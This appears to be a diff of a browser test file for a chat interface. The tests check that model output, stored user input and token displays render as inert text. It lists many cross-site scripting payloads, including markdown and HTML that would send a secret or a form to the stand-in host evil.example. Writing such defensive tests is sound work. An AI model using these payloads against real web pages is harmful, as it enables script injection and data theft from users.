@@ -1,40 +1,30 @@
 """Whatever a model says is text: nothing of it runs, loads or leaves."""
 
-from __future__ import annotations
-
 import pytest
 from playwright.sync_api import expect
-
-from tests.page.conftest import Chat
 
 pytestmark = pytest.mark.browser
 
 ATTACKS = [
-    "<script>window.hit = 1</script>",
-    "<img src=x onerror='window.hit = 1'>",
+    "<script>window.hit = 1</script>", "<img src=x onerror='window.hit = 1'>",
     "<svg onload='window.hit = 1'><script>window.hit = 1</script></svg>",
     "<svg><style><img src=x onerror='window.hit = 1'></style></svg>",
     "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
     "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>",
     "<form action='https://evil.example'><button>Send</button></form>",
-    "<a href='javascript:window.hit = 1'>click</a>",
-    "[click](javascript:window.hit=1)",
+    "<a href='javascript:window.hit = 1'>click</a>", "[click](javascript:window.hit=1)",
     "[click](JaVaScRiPt&colon;window.hit=1)",
-    "[click](data:text/html,<script>window.hit=1</script>)",
-    "[click](vbscript:x)",
-    "![secret](https://evil.example/?q=secret)",
-    '![a](x"onerror="window.hit=1)',
+    "[click](data:text/html,<script>window.hit=1</script>)", "[click](vbscript:x)",
+    "![secret](https://evil.example/?q=secret)", '![a](x"onerror="window.hit=1)',
     "```html\n<img src=x onerror='window.hit = 1'>\n```",
-    '```"><img/src/onerror=window.hit=1>\ncode\n```',
-    "<style>body { display: none }</style>",
+    '```"><img/src/onerror=window.hit=1>\ncode\n```', "<style>body { display: none }</style>",
     "<div style='position:fixed;inset:0'>cover</div>",
     "<think><img src=x onerror='window.hit = 1'></think><b onclick='window.hit=1'>x</b>",
-    "[a]: javascript:window.hit=1\n\n[click][a]",
-    "<javascript:window.hit=1>",
-]
+    "[a]: javascript:window.hit=1\n\n[click][a]", "<javascript:window.hit=1>",
+]  # fmt: skip
 
 
-def test_nothing_a_model_says_becomes_markup(chat: Chat) -> None:
+def test_nothing_a_model_says_becomes_markup(chat):
     elsewhere: list[str] = []
     chat.page.on(
         "request",
@@ -54,7 +44,7 @@ def test_nothing_a_model_says_becomes_markup(chat: Chat) -> None:
     assert elsewhere == []
 
 
-def test_what_a_user_writes_and_stores_is_text_too(chat: Chat) -> None:
+def test_what_a_user_writes_and_stores_is_text_too(chat):
     text = "<img src=x onerror='window.hit = 1'>"
     chat.ask(text)
     chat.page.reload()
@@ -64,7 +54,7 @@ def test_what_a_user_writes_and_stores_is_text_too(chat: Chat) -> None:
     assert chat.page.evaluate("window.hit") is None
 
 
-def test_the_browser_itself_refuses_markup_and_inline_scripts(chat: Chat) -> None:
+def test_the_browser_itself_refuses_markup_and_inline_scripts(chat):
     """The control: were the sanitiser to fail, the policy would still hold."""
     refused = chat.page.evaluate(
         """() => { try { document.body.innerHTML += '<b>x</b>'; return false; }
@@ -74,7 +64,7 @@ def test_the_browser_itself_refuses_markup_and_inline_scripts(chat: Chat) -> Non
     chat.problems.clear()
 
 
-def test_tokens_are_text(chat: Chat) -> None:
+def test_tokens_are_text(chat):
     chat.fake.answers["Go"] = "<b>bold</b><img src=x onerror='window.hit = 1'>"
     chat.press("Settings")
     chat.page.get_by_label("Keep the probability").check()
